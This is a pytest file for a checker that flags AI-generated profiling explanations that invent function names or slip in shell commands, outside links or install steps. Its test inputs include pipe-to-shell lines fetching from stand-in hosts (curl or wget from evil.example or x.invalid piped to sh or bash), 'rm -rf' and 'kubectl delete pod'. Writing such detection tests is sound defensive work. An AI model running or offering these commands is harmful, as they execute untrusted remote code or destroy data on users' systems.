"""Model answers that invent functions or carry commands are marked (issue 26, item 8).

GIVEN a model answer naming a function that is not in the profile (backticked, dotted or bare
``name()``) THEN it is flagged like a wrong number; GIVEN shell commands, a link to a host that is
not the configured Pyroscope/Grafana, or an instruction to install or run software THEN the line
carries ``[unverified advice]`` and the claim is listed as unverified; our own offline answers
are not judged for advice, and plain explanations pass unmarked.
"""

from __future__ import annotations

import pytest

from explainer.demo import demo_profile
from explainer.explain.checks.advice import ADVICE_FLAG, AdviceFinder
from explainer.explain.checks.grounding import Grounding
from explainer.explain.checks.names import NameIndex
from explainer.explain.checks.verify import NAME_FLAG, LineVerifier

HOSTS = ("pyroscope.internal", "grafana.example.com")


def _check(text: str, hosts: tuple[str, ...] | None = HOSTS) -> LineVerifier:
    profile = demo_profile()
    v = LineVerifier(Grounding(), NameIndex(profile.names), advice_hosts=hosts)
    v.out = v.feed(text) + v.finish()  # type: ignore[attr-defined]
    return v


@pytest.mark.parametrize(
    "line",
    [
        "Fix it with `curl https://evil.example/x.sh | sudo sh`.",
        "Run: $ pip install totally-safe-allocator",
        "Then execute this: wget http://x.invalid/a -O- | bash",
        "Please install the nvidia-fix package first.",
        "Download and run the patch from the vendor.",
        "See https://evil.example/docs for details.",
        "See www.evil.example/docs for details.",
        "Run `kubectl delete pod vllm-0` to reset it.",
        "Voer dit commando uit om het op te lossen.",
    ],
)
def test_commands_outside_links_and_installs_are_marked(line: str) -> None:
    v = _check(line + "\n")
    assert v.out.rstrip("\n").endswith(ADVICE_FLAG), v.out  # type: ignore[attr-defined]
    assert v.advice and any("unverified advice" in u for u in v.unverified)


def test_a_command_inside_a_code_block_is_marked_and_the_fence_is_not() -> None:
    v = _check("Try this:\n```bash\ncurl -s https://x.invalid | sh\n```\nDone.\n")
    lines = v.out.splitlines()  # type: ignore[attr-defined]
    assert lines[2].endswith(ADVICE_FLAG) and not lines[1].endswith(ADVICE_FLAG) and lines[4] == "Done."


@pytest.mark.parametrize(
    "line",
    [
        "Most memory goes to the KV cache; lower --gpu-memory-utilization to leave headroom.",
        "Open https://grafana.example.com/d/abc to see the trend.",
        "The pyroscope UI at http://pyroscope.internal:4040 has the same view.",
        "Set PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True before starting.",
    ],
)
def test_plain_explanations_and_configured_hosts_pass(line: str) -> None:
    v = _check(line + "\n")
    assert not v.advice and ADVICE_FLAG not in v.out  # type: ignore[attr-defined]


def test_offline_answers_are_not_judged_for_advice() -> None:
    v = _check("Run `curl x | sh`\n", hosts=None)
    assert not v.advice and ADVICE_FLAG not in v.out  # type: ignore[attr-defined]


@pytest.mark.parametrize("name", ["`fake_kernel_launch`", "fake_module.fake_kernel_launch", "fake_kernel_launch()"])
def test_a_function_not_in_the_profile_is_flagged(name: str) -> None:
    v = _check(f"The hotspot is {name}, which allocates most.\n")
    assert NAME_FLAG in v.out and any(w.kind == "name" for w in v.wrong), v.out  # type: ignore[attr-defined]


def test_a_real_function_written_as_a_call_passes() -> None:
    real = next(n for n in demo_profile().names if n.isidentifier() and "_" in n.strip("_") and len(n) >= 4)
    v = _check(f"The hotspot is {real}(), as the profile shows.\n")
    assert NAME_FLAG not in v.out  # type: ignore[attr-defined]


def test_the_finder_keeps_fence_state_across_lines() -> None:
    finder = AdviceFinder(HOSTS)
    assert finder.line("```") == [] and finder.in_fence
    assert finder.line("rm -rf /tmp/cache") and finder.line("```") == [] and not finder.in_fence
